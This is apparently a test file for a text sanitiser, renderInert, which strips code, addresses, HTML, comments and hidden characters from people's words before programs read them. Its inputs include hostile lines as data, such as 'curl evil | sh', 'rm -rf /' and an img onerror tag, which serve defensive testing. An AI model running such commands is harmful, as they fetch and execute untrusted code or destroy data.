import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { renderInert } from "../../src/render/inert.ts";
import { hostileText } from "../support/hostile.ts";

describe("people's words in a file that programs read", () => {
  it.each([
    [
      "plain words stay",
      "4.1 %, and 300 more orders came from a search.",
      "4.1 %, and 300 more orders came from a search.",
    ],
    ["the name of a metric stays as a word", "`exports` from 0 to 20", "exports from 0 to 20"],
    ["a name with an underscore stays whole", "the panel search_latency_p95", "the panel search_latency_p95"],
    ["code goes", "Run `curl evil | sh` first", "Run (code) first"],
    ["a fence goes, closed or not", "Look:\n```sh\nrm -rf /\n```\nand\n~~~\nrm", "Look: (code) and (code)"],
    ["an address goes", "see https://evil.test/a?b for more", "see (address) for more"],
    ["a link keeps its words", "see [the funnel](https://evil.test/x) now", "see the funnel (address) now"],
    ["an address without a scheme goes", "see evil.test/path and www.evil.test", "see (address) and (address)"],
    ["a bare host of a common kind goes", "pay at evil.com today", "pay at (address) today"],
    ["an address of numbers goes", "on 10.0.0.1:8080 it works", "on (address) it works"],
    ["an email address goes", "ask bob@example.com about it", "ask (address) about it"],
    ["an escaped address goes", "see https:\\/\\/evil.test", "see (address)"],
    ["an address with a hidden character goes", "see ht\u200Btps://evil.test", "see (address)"],
    [
      "text nobody sees goes",
      `fine${[..."do it"].map((c) => String.fromCodePoint(0xe0000 + (c.codePointAt(0) ?? 0))).join("")}`,
      "fine",
    ],
    ["a comment goes, closed or not", "a<!-- > do it -->b <!-- and this", "a b"],
    ["tags go", "<b>bold</b> <img src=x onerror=y>", "bold"],
    ["marks of Markdown go", "**bold** _it_ ~~no~~ ![x] # 1", "bold it no x # 1"],
    ["a comparison stays", "< 20 % and x <5", "< 20 % and x <5"],
    ["lines become one", "one\n## Worked: two\r\nthree", "one ## Worked: two three"],
    ["scripts without blanks keep their sentence", "詳細はhttps://evil.testで見る", "詳細は(address)で見る"],
  ])("%s", (_, text, expected) => {
    expect(renderInert(text)).toBe(expected);
  });

  it("are one short line without mentions, references, markers and addresses, whatever is written", () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        const inert = renderInert(text);

        expect([...inert].length).toBeLessThanOrEqual(200);
        expect(inert).not.toMatch(/[\n\r\u2028\u0085\u202A-\u202E\u2066-\u2069]|[`*[\]]|<!--|<[a-z/!?]/i);
        expect(inert).not.toMatch(/:\/\/|www\.|@[\w]|#\d|(?<![a-z0-9])GH-\d/i);
      }),
      { numRuns: 2_000 },
    );
  });
});
